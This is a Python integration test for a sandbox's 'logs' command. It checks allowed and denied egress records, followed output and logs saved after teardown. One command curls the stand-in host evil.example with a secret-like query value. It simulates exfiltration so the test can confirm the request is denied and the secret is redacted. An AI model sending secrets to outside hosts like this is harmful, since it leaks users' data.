"""``bot-bottle logs ID`` against a real bottle: live, followed, and from a preserved bottle's state.

The bottle is launched with the integration harness (sidecar, agent with no network, a private
``--internal`` "internet" with ``allowed.example`` and ``evil.example``); the CLI runs as a user
runs it, in a subprocess with HOME pointed at a temporary folder.
"""

from __future__ import annotations

import json
import os
import queue
import subprocess
import sys
import threading
import time
import unittest
from pathlib import Path

from tests._docker import skip_unless_docker
from tests.integration import _harness as h

REPO = Path(__file__).resolve().parents[2]


@skip_unless_docker()
class LogsCommandTest(unittest.TestCase):
    def setUp(self) -> None:
        self.home = h.TempHome(self).path
        self.env = {**os.environ, "HOME": str(self.home), "PYTHONPATH": str(REPO)}

    def cli(self, *args: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run([sys.executable, "-m", "bot_bottle", *args], cwd=self.home, env=self.env,
                              capture_output=True, text=True, timeout=120)

    def records(self, result: subprocess.CompletedProcess[str]) -> list[dict]:
        self.assertEqual(result.returncode, 0, result.stderr)
        return [json.loads(line) for line in result.stdout.splitlines() if line.strip()]

    def test_logs_of_a_running_then_preserved_bottle(self) -> None:
        layout = h.write_manifests(self.home)
        internet = h.Internet.create("allowed.example", "evil.example")
        self.addCleanup(internet.close)
        bottle, launcher = h.launch(self, h.plan_for(layout), layout.state_dir, internet=internet)
        bottle_id = launcher.names.id
        self.addCleanup(h.remove_bottle, bottle_id)  # a safety net; teardown removes everything itself

        bottle.exec("curl -sS http://allowed.example/ok-path; curl -sS 'http://evil.example/denied-path?k=s3cr3t'")

        # JSON lines while the bottle runs.
        records = self.records(self.cli("logs", bottle_id, "--format", "json"))
        by_path = {r["path"]: r for r in records}
        self.assertEqual((by_path["/ok-path"]["decision"], by_path["/ok-path"]["status"]), ("allow", 200))
        self.assertEqual((by_path["/denied-path"]["decision"], by_path["/denied-path"]["rule"]),
                         ("deny", "default-deny"))
        self.assertNotIn("s3cr3t", json.dumps(records))

        # Text: one line per decision.
        text = self.cli("logs", bottle_id)
        self.assertEqual(text.returncode, 0, text.stderr)
        self.assertIn("ALLOW", text.stdout)
        self.assertIn("DENY", text.stdout)
        self.assertIn("evil.example:80/denied-path", text.stdout)

        # --follow prints what is there, then what comes, until stopped.
        follow = subprocess.Popen([sys.executable, "-m", "bot_bottle", "logs", bottle_id, "--follow", "--format", "json"],
                                  cwd=self.home, env=self.env, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL,
                                  text=True)
        lines: queue.Queue[str] = queue.Queue()
        reader = threading.Thread(target=lambda: [lines.put(line) for line in follow.stdout], daemon=True)
        reader.start()
        self.addCleanup(self._stop, follow, reader)
        self.assertEqual(self._wait_for_path(lines, "/ok-path")["decision"], "allow")
        bottle.exec("curl -sS http://allowed.example/followed-path")
        self.assertEqual(self._wait_for_path(lines, "/followed-path")["status"], 200)
        self._stop(follow, reader)

        # Preserved: teardown keeps the log in the state folder, and logs reads it from there.
        launcher.preserve_reason = "kept by the test"
        bottle.close()
        saved = layout.state_dir / bottle_id / "egress.jsonl"
        self.assertTrue(saved.is_file())
        paths = [r["path"] for r in self.records(self.cli("logs", bottle_id, "--format", "json"))]
        self.assertIn("/followed-path", paths)

    def test_unknown_bottle_is_a_clear_error(self) -> None:
        result = self.cli("logs", "0000dead")
        self.assertEqual(result.returncode, 1)
        self.assertIn("bottle 0000dead is not running and has no saved egress log", result.stderr)

    def _wait_for_path(self, lines: queue.Queue[str], path: str, timeout: float = 30) -> dict:
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            try:
                line = lines.get(timeout=max(0.1, deadline - time.monotonic()))
            except queue.Empty:
                break
            record = json.loads(line)
            if record.get("path") == path:
                return record
        raise AssertionError(f"--follow never printed {path}")

    @staticmethod
    def _stop(proc: subprocess.Popen[str], reader: threading.Thread) -> None:
        if proc.poll() is None:
            proc.terminate()
            try:
                proc.wait(timeout=10)
            except subprocess.TimeoutExpired:
                proc.kill()
                proc.wait(timeout=10)
        reader.join(timeout=10)  # the pipe ends with the process
        if proc.stdout is not None and not reader.is_alive():
            proc.stdout.close()


if __name__ == "__main__":
    unittest.main()
